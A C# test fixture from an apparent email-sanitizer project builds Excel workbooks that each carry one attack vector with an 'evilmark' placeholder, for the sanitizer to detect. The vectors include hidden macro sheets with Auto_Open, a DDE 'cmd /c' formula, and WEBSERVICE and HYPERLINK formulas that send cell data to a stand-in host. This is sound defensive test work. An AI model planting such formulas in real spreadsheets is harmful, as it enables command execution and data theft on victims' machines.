namespace MiyakoMailSanitizer.Sanitizing.Tests.Office;

/// <summary>Workbooks with one attack each. Where it would act, it says "evilmark".</summary>
internal static class ExcelAttacks
{
    private const string Book = "xl/workbook.xml", First = "xl/worksheets/sheet1.xml";
    private const string MacroSheet = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet";

    private static byte[] Cell(string formula) => DocumentBuilder.Excel($"<row r=\"2\"><c r=\"A2\" t=\"str\"><f>{formula}</f><v>shown</v></c></row>").Build();

    private static string Sheet(string content) => $"<worksheet xmlns=\"{DocumentBuilder.X}\" xmlns:r=\"{DocumentBuilder.R}\">{content}</worksheet>";

    public static IEnumerable<(string Name, string Code, byte[] Document)> All()
    {
        yield return ("macro sheet", "office.xlm", DocumentBuilder.Excel(sheets: "<sheet name=\"m\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId2\"/>",
                workbook: "<definedNames><definedName name=\"_xlnm.Auto_Open\" localSheetId=\"1\">m!$A$1</definedName></definedNames>")
            .Part("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\">evilmark</xm:macrosheet>")
            .Relate(Book, "rId2", MacroSheet, "macrosheets/sheet1.xml").Build());
        yield return ("macro sheet as worksheet", "office.xlm", DocumentBuilder.Excel(sheets: "<sheet name=\"m\" sheetId=\"2\" r:id=\"rId2\"/>")
            .Part("xl/worksheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml", Sheet("<sheetData><row><c><f>EXEC(\"evilmark\")</f></c></row></sheetData>"))
            .Relate(Book, "rId2", "worksheet", "worksheets/sheet2.xml").Build());
        yield return ("name that starts", "office.xlm", DocumentBuilder.Excel(workbook: "<definedNames><definedName name=\"auto_OPEN_evilmark\">表1!$A$1</definedName></definedNames>").Build());
        yield return ("name of a macro", "office.xlm", DocumentBuilder.Excel(workbook: "<definedNames><definedName name=\"n\">EXEC(\"evilmark\")</definedName></definedNames>").Build());
        yield return ("DDE", "office.dde", Cell("cmd|'/c evilmark'!A0"));
        yield return ("DDE link", "office.external-link", Cell("[1]!'!evilmark'"));
        yield return ("another workbook", "office.external-link", Cell("[1]evilmark!A1"));
        yield return ("another workbook in quotes", "office.external-link", Cell("'C:\\[evilmark.xlsx]s'!A1"));
        yield return ("web service", "office.formula", Cell("_xlfn.WEBSERVICE(\"http://evilmark.example/\"&amp;A1)"));
        yield return ("link function", "office.formula", Cell("HYPERLINK(\"http://evilmark.example/\"&amp;A1,\"x\")"));
        yield return ("picture function", "office.formula", Cell("_xlfn.IMAGE(\"http://evilmark.example/\")"));
        yield return ("call", "office.xlm", Cell("CALL(\"evilmark\",\"x\",\"y\")"));
        yield return ("register", "office.xlm", Cell("IF(TRUE, REGISTER.ID (\"evilmark\",\"x\"))"));
        yield return ("function of a macro", "office.formula", Cell("evilmark(1)"));
        yield return ("server", "office.formula", Cell("RTD(\"evilmark\",,\"x\")"));
        yield return ("shared formula", "office.dde", DocumentBuilder.Excel(
            "<row r=\"2\"><c r=\"A2\"><f t=\"shared\" ref=\"A2:A3\" si=\"0\">evilmark|a!b</f><v>1</v></c></row><row r=\"3\"><c r=\"A3\"><f t=\"shared\" si=\"0\"/><v>2</v></c></row>").Build());
        yield return ("external workbook", "office.external-link", DocumentBuilder.Excel(workbook: "<externalReferences><externalReference r:id=\"rId9\"/></externalReferences>")
            .Part("xl/externalLinks/externalLink1.xml", DocumentBuilder.Open + "spreadsheetml.externalLink+xml", "<externalLink>evilmark</externalLink>")
            .Relate(Book, "rId9", "externalLink", "externalLinks/externalLink1.xml").Build());
        yield return ("connection", "office.data-connection", DocumentBuilder.Excel()
            .Part("xl/connections.xml", DocumentBuilder.Open + "spreadsheetml.connections+xml", "<connections>evilmark</connections>")
            .Relate(Book, "rId9", "connections", "connections.xml").Build());
        yield return ("query", "office.data-connection", DocumentBuilder.Excel()
            .Part("xl/queryTables/queryTable1.xml", DocumentBuilder.Open + "spreadsheetml.queryTable+xml", "<queryTable>evilmark</queryTable>")
            .Relate(First, "rId9", "queryTable", "../queryTables/queryTable1.xml").Build());
        yield return ("hidden sheet", "office.hidden-sheet", DocumentBuilder.Excel(sheets: "<sheet name=\"h\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId2\"/>")
            .Part("xl/worksheets/sheet2.xml", DocumentBuilder.Open + "spreadsheetml.worksheet+xml", Sheet("<sheetData/>"))
            .Relate(Book, "rId2", "worksheet", "worksheets/sheet2.xml").Build());
        yield return ("link", "office.link", DocumentBuilder.Excel(afterData: "<hyperlinks><hyperlink ref=\"A1\" r:id=\"rId9\"/></hyperlinks>")
            .Relate(First, "rId9", "hyperlink", "file:///evilmark", isExternal: true).Build());
        yield return ("link by place", "office.link", DocumentBuilder.Excel(afterData: "<hyperlinks><hyperlink ref=\"A1\" location=\"'\\\\evilmark\\[x]s'!A1\"/></hyperlinks>").Build());
        yield return ("format by formula", "office.dde", DocumentBuilder.Excel(
            afterData: "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>evilmark|a!b</formula></cfRule></conditionalFormatting>").Build());
        yield return ("validation by formula", "office.formula", DocumentBuilder.Excel(
            afterData: "<dataValidations count=\"1\"><dataValidation type=\"list\" sqref=\"A1\"><formula1>WEBSERVICE(\"evilmark\")</formula1></dataValidation></dataValidations>").Build());
        yield return ("embedded object", "office.ole", DocumentBuilder.Excel(afterData: "<oleObjects><oleObject progId=\"evilmark\" shapeId=\"1\" r:id=\"rId9\"/></oleObjects>")
            .Part("xl/embeddings/o.bin", DocumentBuilder.Open + "oleObject", "evilmark").Relate(First, "rId9", "oleObject", "../embeddings/o.bin").Build());
        yield return ("printer settings", "office.printer-settings", DocumentBuilder.Excel(afterData: "<pageSetup r:id=\"rId9\"/>")
            .Part("xl/printerSettings/p.bin", DocumentBuilder.Open + "spreadsheetml.printerSettings", "evilmark")
            .Relate(First, "rId9", "printerSettings", "../printerSettings/p.bin").Build());
        yield return ("macro of a shape", "office.macro", DocumentBuilder.Excel(afterData: "<legacyDrawing r:id=\"rId9\"/>")
            .Part("xl/drawings/vmlDrawing1.vml", DocumentBuilder.Open + "vmlDrawing",
                "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape id=\"s\" onclick=\"evilmark\"><x:ClientData ObjectType=\"Button\"><x:FmlaMacro>evilmark</x:FmlaMacro></x:ClientData></v:shape></xml>")
            .Relate(First, "rId9", "vmlDrawing", "../drawings/vmlDrawing1.vml").Build());
        yield return ("pivot cache", "office.pivot", DocumentBuilder.Excel(workbook: "<pivotCaches><pivotCache cacheId=\"1\" r:id=\"rId9\"/></pivotCaches>")
            .Part("xl/pivotCache/p.xml", DocumentBuilder.Open + "spreadsheetml.pivotCacheDefinition+xml", "<pivotCacheDefinition>evilmark</pivotCacheDefinition>")
            .Relate(Book, "rId9", "pivotCacheDefinition", "pivotCache/p.xml").Build());
    }
}
